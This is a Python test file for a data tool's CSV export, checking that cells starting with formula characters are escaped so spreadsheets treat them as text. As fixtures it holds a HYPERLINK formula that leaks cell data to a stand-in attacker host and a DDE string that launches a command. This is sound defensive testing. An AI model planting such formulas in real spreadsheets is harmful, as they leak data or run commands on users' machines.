"""CSV exports: outside text stays text in a spreadsheet, numbers stay numbers."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bondlore.cli.share import write_table
from bondlore.ingest.archive import Reject
from bondlore.ingest.rejects import RejectsFile
from bondlore.measure.shares import shares
from bondlore.spreadsheet import csv_cell, csv_table
from report_samples import TAXONOMY, article, tagged

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1", "＝1", "＠x", "  =1"])
def test_formulas_are_disarmed(cell: str) -> None:
    assert csv_cell(cell) == f"'{cell}"


def test_plain_cells_stay() -> None:
    assert csv_cell("Meridian Wire = good") == "Meridian Wire = good"


@given(st.text(max_size=40))
def test_no_cell_begins_as_a_formula(text: str) -> None:
    assert not csv_cell(text).lstrip().startswith(STARTS)
    assert csv_cell(csv_cell(text)) == csv_cell(text)


def test_a_table_keeps_numbers_nulls_and_order() -> None:
    table = pa.table(
        {"a": ["=x", None], "b": [-1.5, None], "c": pa.array(["-1", "ok"]).dictionary_encode(), "d": [-1, 2]}
    )
    assert csv_table(table).to_pydict() == {"a": ["'=x", None], "b": [-1.5, None], "c": ["'-1", "ok"], "d": [-1, 2]}


def test_a_publisher_cannot_put_a_formula_into_the_shares(tmp_path: Path) -> None:
    at = datetime(2025, 4, 9, 13, tzinfo=UTC)
    evil = '=HYPERLINK("http://evil.example/?"&A1)'
    rows = [article(i, at, verdicts={"deleveraging": "promotes"}, publisher=evil) for i in range(12)]
    series = shares(tagged(rows), TAXONOMY, freq="W", split=True)
    write_table(series.table, tmp_path / "shares.csv")
    with (tmp_path / "shares.csv").open(newline="", encoding="utf-8") as file:
        cells = list(csv.DictReader(file))
    assert {r["publisher"] for r in cells if r["publisher"]} == {f"'{evil}"}
    assert all(float(r["low"]) >= 0 for r in cells if r["low"])


def test_a_refused_row_cannot_put_a_formula_into_the_rejects(tmp_path: Path) -> None:
    with RejectsFile(tmp_path / "r.csv") as rejects:
        rejects.append(Reject("=cmd|' /C calc'!A0", 3, "@x"))
    with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as file:
        assert list(csv.reader(file))[1] == ["'=cmd|' /C calc'!A0", "3", "'@x"]
